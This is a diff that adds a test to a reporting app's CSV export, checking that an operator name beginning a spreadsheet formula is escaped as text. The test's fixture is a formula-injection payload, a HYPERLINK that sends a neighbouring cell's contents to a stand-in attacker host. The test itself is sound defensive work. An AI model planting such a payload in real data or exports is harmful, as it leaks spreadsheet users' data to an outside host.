@@ -135,6 +135,22 @@ def test_csv_export_and_permissions(demo, fixed_data):
         reports.performance_report(demo.db, boss, start=END, end=START, by="window", shipped_calendar=demo.calendar)
 
 
+def test_csv_export_gives_a_name_that_starts_a_formula_to_the_spreadsheet_as_text(demo):
+    # A name as the hub (or an administrator) may publish it: a spreadsheet would run it.
+    formula = '=HYPERLINK("http://attacker.invalid/?"&A3,"李明")'
+    auth.create_operator(demo.db, demo.ctx, login="li", display_name=formula, role="operator",
+                         initial_password="Start2026x")
+    clerk = auth.log_in(demo.db, login="li", password="Start2026x").ctx
+    accept(demo, clerk, "MZ-001", "2025-10-09 09:00")
+    report = reports.performance_report(demo.db, demo.ctx, start=START, end=END, by="operator",
+                                        shipped_calendar=demo.calendar)
+    rows = list(csv.reader(io.StringIO(reports.report_csv(report)[1:])))
+    assert ["'" + formula, "1"] == rows[2][:2]
+    assert not [cell for row in rows for cell in row if cell[:1] in "=+-@\t\r" and cell != "-"]
+    # The figures stay figures, the dash of "no figure" included.
+    assert rows[-1][:3] == ["Total", "1", "0"] and "-" in rows[-1]
+
+
 def _every_case_of_the_center(demo, ctx, calendar_now):
     """The counting rules fed with every case of the center and its whole timeline, read
     through the ORM: the reference the report's selective reading must agree with."""
